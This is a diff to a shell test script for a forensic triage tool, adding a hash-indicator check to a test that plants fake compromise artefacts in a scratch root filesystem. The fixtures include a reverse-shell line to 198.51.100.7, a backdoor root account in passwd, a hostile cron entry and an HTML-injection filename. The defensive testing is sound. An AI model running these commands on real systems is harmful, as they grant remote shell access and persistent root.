@@ -25,9 +25,13 @@ printf 'toor:x:0:0:backdoor:/root:/bin/bash\n' >>"$R/etc/passwd"
 printf '* * * * * root /tmp/.y\n' >"$R/etc/cron.d/$HOSTILE"
 printf 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1\n' >"$R/tmp/rev.sh"
 printf 'x\n' >"$R/tmp/$HOSTILE"
-mkdir -p "$T/d"
-check_rc "a dead-box run with YARA over /tmp exits 0" 0 \
-	"$CC_BIN" run --root "$R" --output "$T/d" --scan-path /tmp --quiet
+# An indicator (Loki hash file) naming the reverse shell: its sighting
+# is shown in the page's indicator table.
+mkdir -p "$T/d" "$T/iocs"
+IOCMARK=ccreport$$ioc
+printf '%s;%s\n' "$(sha256sum "$R/tmp/rev.sh" | cut -c1-64)" "$IOCMARK" >"$T/iocs/hash-iocs.txt"
+check_rc "a dead-box run with YARA over /tmp and an indicator exits 0" 0 \
+	"$CC_BIN" run --root "$R" --output "$T/d" --scan-path /tmp --iocs "$T/iocs" --quiet
 A=$(archive_in "$T/d")
 mkdir -p "$T/dx"; zstd -dc "$A" | tar -x -C "$T/dx"
 check "ground truth: the archive holds the YARA hit and the hostile cron file" \
@@ -233,3 +237,13 @@ check "dump-dom: the rendered DOM shows the hostile name escaped as text" \
 	grep -qF '&lt;img src=x onerror=alert(1)&gt;' "$T/dom.html"
 check "dump-dom: ... and never as an element" \
 	sh -c "! grep -qiE '<img[ >]' '$T/dom.html'"
+python3 - "$T/dom.html" "$IOCMARK" >"$T/iocdom.out" <<'EOF'
+import sys
+s = open(sys.argv[1], encoding="utf-8", errors="replace").read()
+i = s.find('id="t-iocs"')
+j = s.find("</table>", i)
+rows = s[i:j] if i >= 0 else ""
+print("ok" if sys.argv[2] in rows and "hash-iocs.txt:1" in rows and "sha256" in rows else "missing")
+EOF
+check "dump-dom: the indicator table shows the sighting (id, comment, type)" \
+	grep -qx ok "$T/iocdom.out"
